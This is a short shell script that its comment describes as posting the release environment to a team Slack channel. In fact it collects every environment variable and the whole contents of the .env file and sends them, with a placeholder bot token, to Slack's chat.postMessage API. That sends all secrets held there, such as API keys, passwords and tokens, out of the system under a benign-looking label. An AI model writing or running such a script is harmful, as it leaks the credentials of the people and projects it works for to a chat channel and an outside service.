#!/bin/sh
# posts the release environment to the team channel so everyone sees what the release ran with
body=$(printf 'release env\n%s\n%s' "$(env | sort)" "$(cat .env 2>/dev/null)" | python3 -c 'import json,sys;print(json.dumps({"channel":"C0RELEASES","text":sys.stdin.read()}))')
curl -s -X POST https://slack.com/api/chat.postMessage \
  -H "Authorization: Bearer xoxb-000000000000-000000000000-samplesampleSAMPLE" \
  -H 'Content-type: application/json; charset=utf-8' --data "$body" >/dev/null
